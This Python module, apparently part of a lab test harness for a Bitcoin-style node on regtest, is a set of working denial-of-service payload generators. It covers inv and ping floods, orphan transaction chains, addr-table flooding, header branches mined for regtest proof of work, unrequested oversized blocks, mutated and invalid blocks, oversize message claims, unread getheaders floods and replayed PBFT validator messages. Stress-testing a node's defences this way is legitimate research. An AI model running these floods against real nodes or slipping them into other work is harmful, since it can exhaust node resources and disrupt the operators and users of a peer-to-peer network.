"""What the attackers send. Each attack is a function(share, shares, world) that yields the bytes that attacker number
`share` of `shares` sends after its handshake; `world` is what they know of the node's chain. Nothing here costs the
attacker more than a laptop's seconds: on regtest a proof of work takes two hashes.
"""

import hashlib
import os
import random
import struct
import time
from dataclasses import dataclass

from bitcoin.core import COutPoint, CTransaction, CTxIn, CTxOut
from bitcoin.core.script import OP_RETURN, OP_TRUE, CScript
from foreign_peer import EASY_BITS, coinbase, frame

LABNET_MAGIC = b"lab!"

# Totals, divided among the attackers.
WEAK_HEADERS = 630_000
SIBLINGS = 600
SIBLING_BYTES = 860_000
# For each attacker.
INV_ENTRIES = 5_000
ORPHANS = 12
ORPHAN_INPUTS = 2_300
GARBAGE_BYTES = 200_000
PINGS = 20_000
ADDRESSES = 1_000
ADDRESS_MESSAGES = 400
ORPHAN_CHAINS = 60
ORPHAN_CHAIN_LENGTH = 25
DEAF_REQUESTS = 4_000
ENGINE_REPEATS = 4_000

INV_WTXID = 5
BRANCH_HEADERS = 50
FILLER_BYTES = 400_000


@dataclass
class World:
    headers: list  # the node's chain as CBlockHeader, by height
    engine_messages: list  # what a PBFT validator has sent to everybody; empty under proof of work


def double_sha256(data):
    return hashlib.sha256(hashlib.sha256(data).digest()).digest()


def compact_size(number):
    if number < 0xFD:
        return bytes([number])
    return b"\xfd" + struct.pack("<H", number) if number <= 0xFFFF else b"\xfe" + struct.pack("<I", number)


def header_above(previous, time, root):
    """80 bytes with a proof of work for regtest, and their hash."""
    start = struct.pack("<i", 0x20000000) + previous + root + struct.pack("<II", time, EASY_BITS)
    nonce = 0
    while True:
        header = start + struct.pack("<I", nonce)
        block_hash = double_sha256(header)
        if block_hash[31] < 0x7F:
            return header, block_hash
        nonce += 1


def nothing(share, shares, world):
    yield from ()


def invs(share, shares, world):
    entries = b"".join(struct.pack("<I", INV_WTXID) + os.urandom(32) for _ in range(INV_ENTRIES))
    yield frame(b"inv", compact_size(INV_ENTRIES) + entries)


def orphans(share, shares, world):
    for _ in range(ORPHANS):
        inputs = [CTxIn(COutPoint(os.urandom(32), 0)) for _ in range(ORPHAN_INPUTS)]
        note = CTxOut(0, CScript([OP_RETURN, os.urandom(20)]))
        yield frame(b"tx", CTransaction(inputs, [CTxOut(1000, CScript([OP_TRUE])), note]).serialize())


def branches(share, shares, fork):
    """Headers in branches of BRANCH_HEADERS above `fork`."""
    for _ in range(WEAK_HEADERS // shares // BRANCH_HEADERS):
        previous, time, message = fork.GetHash(), fork.nTime, compact_size(BRANCH_HEADERS)
        for _ in range(BRANCH_HEADERS):
            time += 1
            header, previous = header_above(previous, time, os.urandom(32))
            message += header + b"\0"
        yield frame(b"headers", message)


def weak_headers(share, shares, world):
    """Far below the tip: with less work than a node need store."""
    yield from branches(share, shares, world.headers[0])


def near_headers(share, shares, world):
    """As much work as the tip's: such headers are stored, but not for ever."""
    yield from branches(share, shares, world.headers[-1 - BRANCH_HEADERS])


def siblings(share, shares, world):
    """Large blocks that nobody asked for, 50 blocks below the tip."""
    parent, height = world.headers[-51], len(world.headers) - 50
    for _ in range(SIBLINGS // shares + (1 if share < SIBLINGS % shares else 0)):
        filler = CScript(b"\x6a" + os.urandom(16) + bytes(SIBLING_BYTES))
        body = coinbase(height, script_pubkey=filler, extra=os.urandom(8)).serialize()
        header, _ = header_above(parent.GetHash(), parent.nTime + 1, double_sha256(body))
        yield frame(b"block", header + b"\x01" + body)


def garbage(share, shares, world):
    while True:
        yield os.urandom(GARBAGE_BYTES)


def oversize(share, shares, world):
    """A message that claims to be larger than the protocol allows, then its payload."""
    start = frame(b"tx", b"")
    yield start[:16] + struct.pack("<I", 32_000_000) + start[20:]
    for _ in range(160):
        yield bytes(200_000)


def pings(share, shares, world):
    one = b"".join(frame(b"ping", os.urandom(8)) for _ in range(100))
    for _ in range(PINGS // 100):
        yield one


def addresses(share, shares, world):
    """More addresses than a table holds, all of them possible."""
    now = int(time.time())
    for _ in range(ADDRESS_MESSAGES):
        entries = b"".join(struct.pack("<IQ", now, 9) + bytes(10) + b"\xff\xff" +
                           bytes([random.randrange(60, 100)]) + os.urandom(3) + b"\x20\x8d" for _ in range(ADDRESSES))
        yield frame(b"addr", compact_size(ADDRESSES) + entries)


def orphan_chains(share, shares, world):
    """Transactions that spend one another, but the first of each chain spends what nobody has."""
    for _ in range(ORPHAN_CHAINS):
        parent = os.urandom(32)
        for _ in range(ORPHAN_CHAIN_LENGTH):
            transaction = CTransaction([CTxIn(COutPoint(parent, 0))], [CTxOut(1000, CScript([OP_TRUE])),
                                                                       CTxOut(0, CScript([OP_RETURN, b"orphan"]))])
            parent = transaction.GetTxid()
            yield frame(b"tx", transaction.serialize())


def block_on_tip(world, body, root):
    header, _ = header_above(world.headers[-1].GetHash(), world.headers[-1].nTime + 1, root)
    return frame(b"block", header + b"\x01" + body)


def filled_coinbase(world, **options):
    filler = CScript(b"\x6a" + os.urandom(16) + bytes(FILLER_BYTES))
    return coinbase(len(world.headers), script_pubkey=filler, extra=os.urandom(8), **options).serialize()


def mutated_blocks(share, shares, world):
    """On the tip, with work, and with another body than the header names."""
    while True:
        yield block_on_tip(world, filled_coinbase(world), os.urandom(32))


def invalid_blocks(share, shares, world):
    """On the tip, with work: only connecting the block shows that it pays too much."""
    while True:
        body = filled_coinbase(world, value=21_000_000 * 100_000_000)
        yield block_on_tip(world, body, double_sha256(body))


def deaf(share, shares, world):
    """Requests whose replies nobody reads."""
    locator = struct.pack("<I", 70016) + b"\x01" + world.headers[0].GetHash() + bytes(32)
    request = b"".join(frame(b"getheaders", locator) for _ in range(20))
    for _ in range(DEAF_REQUESTS // 20):
        yield request


def engine_messages(share, shares, world):
    """Genuine messages of a validator, again and again."""
    block = b"".join(frame(b"engine", message, magic=LABNET_MAGIC) for message in world.engine_messages)
    for _ in range(ENGINE_REPEATS):
        yield block


ATTACKS = {"none": nothing, "invs": invs, "orphans": orphans, "orphan-chains": orphan_chains,
           "addresses": addresses, "weak-headers": weak_headers, "near-headers": near_headers, "siblings": siblings,
           "mutated": mutated_blocks, "invalid": invalid_blocks, "garbage": garbage, "oversize": oversize,
           "pings": pings, "deaf": deaf, "engine": engine_messages}
# Attackers that never read.
SILENT_READERS = {"deaf"}
# Attacks on a validator of a PBFT network.
PBFT_ATTACKS = {"engine"}
